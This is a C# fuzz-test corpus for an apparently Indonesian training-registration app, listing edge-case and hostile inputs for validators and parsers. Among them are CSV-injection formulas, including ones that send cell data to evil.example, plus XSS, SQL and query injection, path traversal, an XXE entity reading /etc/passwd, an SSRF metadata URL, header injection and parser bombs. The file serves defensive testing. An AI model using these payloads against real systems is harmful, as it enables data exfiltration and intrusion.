using System.Text;

namespace TrainingCycles.Tests.Reliability.Corpus;

/// <summary>A raw request body with the content type it is sent under (null: no Content-Type header).</summary>
public sealed record NastyBody(string Name, string? ContentType, byte[] Bytes, bool Chunked = false)
{
    public override string ToString() => $"{Name} ({ContentType ?? "no content type"}, {Bytes.Length:N0} bytes{(Chunked ? ", chunked" : "")})";
}

/// <summary>
/// The checked-in corpus of nasty inputs every fuzz test mixes into its generated ones: strings people (and
/// scripts) really send, and whole request bodies that break naive parsers. Each entry says what it is for.
/// </summary>
public static class NastyInputs
{
    /// <summary>Spreadsheet formulas (CSV injection): a cell starting with = + - @ (or tab/CR) runs in Excel.</summary>
    public static readonly IReadOnlyList<string> Formulas =
    [
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Klik di sini\")",
        "+SUM(1,1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=1+1",
        "+62 812 3456 7890",
        "-",
        "@budi",
        "\t=1+1",
        "\r=1+1",
        "=IMPORTXML(CONCAT(\"http://evil.example/?\",A2),\"//a\")",
    ];

    /// <summary>Text: Unicode edge cases, markup, injections, control characters, overlong values.</summary>
    public static readonly IReadOnlyList<string> Strings =
    [
        // Names as Indonesians write them, with the punctuation that trips naive validators.
        "Dr. Hj. Siti Aminah, S.Sos., M.Si.",
        "I Gusti Ngurah Rai",
        "Muh. 'Ali bin Abdullah",
        "O'Neil-Pratama",
        // Combining marks: decomposed accents and zalgo text.
        "Siti Amina\u0301h",
        "Bu\u0308di Sa\u0301ntoso",
        "Z\u0334\u0321\u0322\u031B\u0317\u034E\u0329\u0356\u031E\u0333\u0349\u0320\u0347\u0348\u0313\u0344\u0305\u0300\u0307\u030Ba\u0338l\u0335g\u0337o\u0336",
        "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A\u030B\u030C\u030D\u030E\u030F",
        // Right-to-left text and direction overrides.
        "محمد عبد الله",
        "שלום עליכם",
        "Budi \u202Egnp.exe\u202C",
        "\u202Eevil\u202C",
        "\u200F\u200E\u2066isolate\u2069",
        // Emoji, flags, ZWJ sequences, astral-plane letters.
        "Dewi 👩🏽‍⚕️",
        "🇮🇩🇮🇩🇮🇩",
        "👨‍👩‍👧‍👦",
        "𝕊𝕚𝕥𝕚 𝔸𝕞𝕚𝕟𝕒𝕙",
        "\U0001F4A9",
        // Zero-width and invisible characters; whitespace that is not a space.
        "\u200B",
        "Bu\u200Ddi",
        "\uFEFFSiti",
        "\u00A0",
        "\u3000",
        "   ",
        "\u2028line\u2029paragraph",
        // Control characters and null bytes.
        "Budi\0Santoso",
        "\0",
        "\u0007bell",
        "\u001b[31mred\u001b[0m",
        "\r\nX-Injected: header",
        "line1\nline2",
        "\u0085next-line",
        // Replacement character, noncharacters and lone surrogates (become U+FFFD on the wire).
        "\uFFFD\uFFFD",
        "\uFFFF\uFFFE",
        "\uD800",
        "abc\uDFFFdef",
        // Markup and script.
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "javascript:alert(1)",
        "</title><script>alert(1)</script>",
        "<!--",
        "]]>",
        "&amp;&lt;&#0;&#x0;",
        // Template and query injection.
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "' or 1 eq 1 or RowKey ne '",
        "'; DROP TABLE Participants;--",
        "PartitionKey eq 'x'",
        // Paths, URLs, encodings.
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "%2e%2e%2f",
        "%00",
        "%ZZ",
        "a/b?c#d",
        "http://169.254.169.254/metadata",
        "\\\\evil.example\\share",
        // Numbers in odd forms.
        "NaN",
        "-0",
        "1e309",
        "99999999999999999999999999",
        "0x41",
        // Non-ASCII digits (fullwidth, Arabic-Indic, Devanagari).
        "１９８５０３１２２０１００１２００５",
        "١٩٨٥٠٣١٢٢٠١٠٠١٢٠٠٥",
        "१२३४५६",
        // Case folding traps.
        "İSTANBUL ıstanbul",
        "ß ẞ ﬀ",
        // Overlong values around the limits (200, 1000) and far beyond.
        new string('a', 201),
        new string('é', 1001),
        string.Concat(Enumerable.Repeat("👩🏽‍⚕️", 300)),
        new string('x', 40_000),
        "",
    ];

    /// <summary>NIP-shaped strings: separators, wrong lengths, impossible dates, foreign digits.</summary>
    public static readonly IReadOnlyList<string> Nips =
    [
        "198503122010012005",
        "19850312 201001 2 005",
        "1985.03.12.2010.01.2.005",
        "19850312-201001-2-005",
        "19850312\u00A0201001\u00A02\u00A0005",
        "198503122010012005\0",
        "-198503122010012005",
        "+198503122010012005",
        "19850312201001200",
        "1985031220100120055",
        "198502302010012005",
        "198513122010012005",
        "203001012050012005",
        "193912312010012005",
        "198503122099012005",
        "198503121990012005",
        "198503122010013005",
        "198503122010012000",
        "000000000000000000",
        "１９８５０３１２２０１００１２００５",
        "19850312201001200５",
        "1985031220100120O5",
        "198503122010012005198503122010012005",
        new string('9', 10_000),
    ];

    /// <summary>Phone-shaped strings: what people type, foreign and landline numbers, junk.</summary>
    public static readonly IReadOnlyList<string> Phones =
    [
        "0812-3456-7890",
        "0812 3456 7890",
        "+62 812 3456 7890",
        "62812345678",
        "(0812) 345-6789",
        "+6281234567890",
        "021-5551234",
        "(0536) 3221234",
        "+1 202 555 0100",
        "+44 20 7946 0958",
        "0812-FLOWERS",
        "tel:+6281234567890",
        "+62812345678901234567890",
        "08",
        "+",
        "++6281234567890",
        "0812 3456 7890 ext. 12",
        "０８１２３４５６７８９０",
        "٠٨١٢٣٤٥٦٧٨٩٠",
        "0812\u00AD3456\u00AD7890",
        "-0812-3456-7890-",
        new string('8', 5000),
    ];

    /// <summary>Email-shaped strings: valid oddities and near misses.</summary>
    public static readonly IReadOnlyList<string> Emails =
    [
        "siti.aminah@example.org",
        "SITI.AMINAH@EXAMPLE.ORG",
        "user+tag@example.org",
        "\"quoted name\"@example.org",
        "a@b",
        "a@b.",
        "a@[127.0.0.1]",
        "a@ex ample.org",
        "a@@example.org",
        "@example.org",
        "a@example.org\0",
        "a@example.org\r\nBcc: victim@example.org",
        "Siti <siti@example.org>",
        "siti@example.org, budi@example.org",
        "bücher@exämple.org",
        "x@xn--bcher-kva.example",
        new string('a', 250) + "@example.org",
        "a@" + new string('b', 300) + ".org",
        "=cmd|' /C calc'!A0@example.org",
        "<script>@example.org",
    ];

    /// <summary>Whole bodies: huge, malformed multipart, invalid UTF-8, wrong content types, parser bombs.</summary>
    public static IReadOnlyList<NastyBody> Bodies(string validFormBody = "fullName=Budi&consent=yes") =>
    [
        new("10 MB of form field", "application/x-www-form-urlencoded", TenMegabytes("fullName=")),
        new("10 MB of form field, chunked (no Content-Length)", "application/x-www-form-urlencoded", TenMegabytes("fullName="), Chunked: true),
        new("10 MB of CSV", "text/csv", TenMegabytes("email,nama\n")),
        new("10 MB of JSON string", "application/json", TenMegabytes("{\"title\":\"", "\"}")),
        new("10 MB, chunked, no content type", null, TenMegabytes(""), Chunked: true),
        new("2,000 form fields in 4 KB", "application/x-www-form-urlencoded", Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat("a&", 2000)))),
        new("one 5 MB form value, chunked", "application/x-www-form-urlencoded", Encoding.ASCII.GetBytes("code=" + new string('1', 5 * 1024 * 1024)), Chunked: true),
        new("invalid UTF-8 in a form", "application/x-www-form-urlencoded", [.. Encoding.ASCII.GetBytes("fullName="), 0xC3, 0x28, 0xFF, 0xFE, 0xC0, 0xAF, 0xED, 0xA0, 0x80, .. Encoding.ASCII.GetBytes("&consent=yes")]),
        new("invalid UTF-8 in percent escapes", "application/x-www-form-urlencoded", Encoding.ASCII.GetBytes("fullName=%C3%28%FF%FE%C0%AF%ED%A0%80&nip=%00%00&consent=yes")),
        new("invalid UTF-8 in CSV", "text/csv", [.. Encoding.ASCII.GetBytes("email,nama\nsiti@example.org,"), 0xC3, 0x28, 0xFF, 0xFE, 0xED, 0xA0, 0x80, (byte)'\n']),
        new("invalid UTF-8 in JSON", "application/json", [.. Encoding.ASCII.GetBytes("[{\"email\":\""), 0xC3, 0x28, 0xFF, .. Encoding.ASCII.GetBytes("\"}]")]),
        new("NUL bytes", "application/x-www-form-urlencoded", [0, 0, 0, .. Encoding.ASCII.GetBytes("=&\0=\0"), 0]),
        new("UTF-16 with BOM", "application/x-www-form-urlencoded", [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(validFormBody)]),
        new("UTF-8 BOM only", "text/csv", Encoding.UTF8.GetPreamble()),
        new("empty", "application/x-www-form-urlencoded", []),
        new("empty JSON", "application/json", []),
        new("form as text/xml", "text/xml", Encoding.UTF8.GetBytes(validFormBody)),
        new("XML with an external entity", "text/xml", Encoding.UTF8.GetBytes("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>")),
        new("form with no content type", null, Encoding.UTF8.GetBytes(validFormBody)),
        new("form as application/octet-stream", "application/octet-stream", Encoding.UTF8.GetBytes(validFormBody)),
        new("form as JSON", "application/json", Encoding.UTF8.GetBytes(validFormBody)),
        new("JSON as form", "application/x-www-form-urlencoded", Encoding.UTF8.GetBytes("{\"fullName\":\"Budi\",\"consent\":\"yes\"}")),
        new("nonsense content type", "x/y; charset=klingon", Encoding.UTF8.GetBytes(validFormBody)),
        new("unknown charset", "application/x-www-form-urlencoded; charset=ebcdic-xx", Encoding.UTF8.GetBytes(validFormBody)),
        new("multipart without boundary", "multipart/form-data", Encoding.UTF8.GetBytes("--x\r\nContent-Disposition: form-data; name=\"code\"\r\n\r\n123456\r\n--x--\r\n")),
        new("multipart with the wrong boundary", "multipart/form-data; boundary=abc", Encoding.UTF8.GetBytes("--xyz\r\nContent-Disposition: form-data; name=\"code\"\r\n\r\n123456\r\n--xyz--\r\n")),
        new("multipart never terminated", "multipart/form-data; boundary=abc", Encoding.UTF8.GetBytes("--abc\r\nContent-Disposition: form-data; name=\"code\"\r\n\r\n123456")),
        new("multipart part without headers", "multipart/form-data; boundary=abc", Encoding.UTF8.GetBytes("--abc\r\n123456\r\n--abc--\r\n")),
        new("multipart with a 200-char boundary", "multipart/form-data; boundary=" + new string('b', 200), Encoding.UTF8.GetBytes("--" + new string('b', 200) + "\r\n\r\n--" + new string('b', 200) + "--\r\n")),
        new("multipart file with invalid UTF-8", "multipart/form-data; boundary=abc", [.. Encoding.ASCII.GetBytes("--abc\r\nContent-Disposition: form-data; name=\"file\"; filename=\"u.csv\"\r\nContent-Type: text/csv\r\n\r\nemail,nama\r\na@example.org,"), 0xFF, 0xC3, 0x28, .. Encoding.ASCII.GetBytes("\r\n--abc--\r\n")]),
        new("JSON nested 10,000 deep", "application/json", Encoding.ASCII.GetBytes(new string('[', 10_000) + new string(']', 10_000))),
        new("JSON with a lone surrogate escape", "application/json", Encoding.ASCII.GetBytes("[{\"email\":\"a\\ud800@example.org\",\"name\":\"\\udfff\",\"title\":\"\\ud800\",\"sha256\":\"\\ud800\"}]")),
        new("JSON with duplicate keys", "application/json", Encoding.ASCII.GetBytes("{\"title\":\"a\",\"title\":\"b\",\"capacity\":1,\"capacity\":\"x\"}")),
        new("JSON huge numbers", "application/json", Encoding.ASCII.GetBytes("{\"capacity\":1e400,\"completion\":{\"minimumAttendancePercent\":-99999999999999999999}}")),
        new("truncated JSON", "application/json", Encoding.ASCII.GetBytes("{\"title\":\"Pelatihan\",\"sessions\":[{\"id\":")),
        new("CSV with unbalanced quotes", "text/csv", Encoding.UTF8.GetBytes("email,nama\n\"siti@example.org,\"Siti\n\"\"\"budi@example.org\",Budi\"\n")),
        new("CSV of only delimiters", "text/csv", Encoding.UTF8.GetBytes(";;;;\n,,,,\n\t\t\t\n")),
        new("CSV with CR-only lines", "text/csv", Encoding.UTF8.GetBytes("email,nama\rsiti@example.org,Siti\rbudi@example.org,Budi\r")),
        new("binary noise", "application/octet-stream", Noise(4096, seed: 11)),
        new("binary noise as CSV", "text/csv", Noise(4096, seed: 12)),
        new("binary noise as JSON", "application/json", Noise(4096, seed: 13)),
        new("binary noise as a form", "application/x-www-form-urlencoded", Noise(4096, seed: 14)),
    ];

    /// <summary>Deterministic random bytes.</summary>
    public static byte[] Noise(int length, int seed)
    {
        var bytes = new byte[length];
        new Random(seed).NextBytes(bytes);
        return bytes;
    }

    private static byte[] TenMegabytes(string prefix, string suffix = "")
    {
        const int size = 10 * 1024 * 1024;
        var bytes = new byte[size];
        Array.Fill(bytes, (byte)'a');
        Encoding.ASCII.GetBytes(prefix).CopyTo(bytes, 0);
        Encoding.ASCII.GetBytes(suffix).CopyTo(bytes, size - suffix.Length);
        return bytes;
    }
}
